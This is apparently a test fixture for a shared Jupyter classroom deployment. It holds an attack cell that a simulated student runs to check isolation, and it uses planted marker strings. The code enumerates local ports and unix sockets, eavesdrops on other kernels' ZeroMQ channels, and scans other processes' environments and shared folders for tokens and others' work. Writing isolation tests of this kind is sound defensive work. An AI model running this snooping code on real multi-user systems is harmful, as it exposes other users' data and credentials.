"""What an attacking student runs in her own kernel on the classroom profile (tests/test_classroom.py).

`ATTACK` is sent to her kernel as one cell, after a header naming MARKERS_HEX (strings that
belong to other people: another student's output, the instructor's token; hex-encoded, so
that the cell's own source, broadcast and kept in her history, never holds them), OWN_HEX (a
string only her own cell prints: the control), SECONDS (how long to listen), HOMES and STATE
(folders to search).
It prints one JSON line: what it could connect to, how many bytes each subscription received,
where any marker was seen, and what it could list.
"""

ATTACK = r'''
import glob, json, os, socket, stat, threading, time
import zmq

def listening(path):
    ports = set()
    try:
        lines = open(path).read().splitlines()[1:]
    except OSError:
        return ports
    for line in lines:
        fields = line.split()
        if fields[3] == "0A":  # LISTEN
            ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports

def unix_sockets():
    paths = set()
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        fields = line.split()
        if len(fields) >= 8 and fields[7].startswith("/"):
            paths.add(fields[7])
    return sorted(paths)

def try_connect(port):
    results = []
    for host in ("127.0.0.1", "::1"):
        try:
            with socket.create_connection((host, port), timeout=2):
                return "open"
        except OSError as err:
            results.append(type(err).__name__)
    return results[0]

def try_unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
        return "open"
    except OSError as err:
        return type(err).__name__
    finally:
        s.close()

MARKERS = [bytes.fromhex(m).decode() for m in MARKERS_HEX]  # never in the cell's own source or history
OWN = bytes.fromhex(OWN_HEX).decode()
found = {marker: [] for marker in MARKERS + [OWN]}

def hunt(where, data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    for marker in found:
        if marker.encode() in data and len(found[marker]) < 20:
            found[marker].append(where)

tcp_ports = sorted(listening("/proc/net/tcp") | listening("/proc/net/tcp6"))
connects = {port: try_connect(port) for port in tcp_ports}
sockets = unix_sockets()
unix = {path: try_unix(path) for path in sockets}

# subscribe to every port and every unix socket path, ZeroMQ style (no key is needed to listen)
ctx = zmq.Context()
subs = {}
for port in tcp_ports:
    for host in ("127.0.0.1", "[::1]"):
        sub = ctx.socket(zmq.SUB)
        sub.setsockopt(zmq.IPV6, 1)
        sub.setsockopt(zmq.SUBSCRIBE, b"")
        sub.setsockopt(zmq.LINGER, 0)
        sub.connect(f"tcp://{host}:{port}")
        subs[f"tcp:{host}:{port}"] = sub
own_runtime = os.environ.get("JUPYTER_RUNTIME_DIR", "")
for path in sockets + glob.glob(own_runtime + "/kernel-*-ipc-*"):
    sub = ctx.socket(zmq.SUB)
    sub.setsockopt(zmq.SUBSCRIBE, b"")
    sub.setsockopt(zmq.LINGER, 0)
    sub.connect(f"ipc://{path}")
    subs[f"ipc:{path}"] = sub
received = {name: 0 for name in subs}
poller = zmq.Poller()
for sub in subs.values():
    poller.register(sub, zmq.POLLIN)
names = {sub: name for name, sub in subs.items()}
end = time.monotonic() + SECONDS
shouted = 0
while time.monotonic() < end:
    if time.monotonic() > end - SECONDS + 1 + shouted:  # the control: her own kernel's output, once a second
        print(OWN, flush=True)
        shouted += 1
    for sub, _ in poller.poll(200):
        for frame in sub.recv_multipart():
            received[names[sub]] += len(frame)
            hunt(names[sub], frame)
ctx.destroy(linger=0)

# hunt for tokens and other people's work in what she can read
visible = [p for p in os.listdir("/proc") if p.isdigit()]
owners = set()
for pid in visible:
    try:
        owners.add(os.stat(f"/proc/{pid}").st_uid)
        for part in ("environ", "cmdline"):
            hunt(f"/proc/{pid}/{part}", open(f"/proc/{pid}/{part}", "rb").read())
    except OSError:
        pass
hunt("own environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
readable = 0
for top in ["/tmp", "/dev/shm", "/var/tmp", "/run", HOMES] + STATE:
    for folder, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                    hunt(path, open(path, "rb").read())
                    readable += 1
            except OSError:
                pass
print(json.dumps({
    "uid": os.getuid(), "tcp": connects, "unix": unix,
    "received": {name: n for name, n in received.items() if n},
    "found": found, "proc_owners": sorted(owners), "processes": len(visible), "files_read": readable,
    "tmp": sorted(os.listdir("/tmp")), "shm": sorted(os.listdir("/dev/shm")),
}))
'''
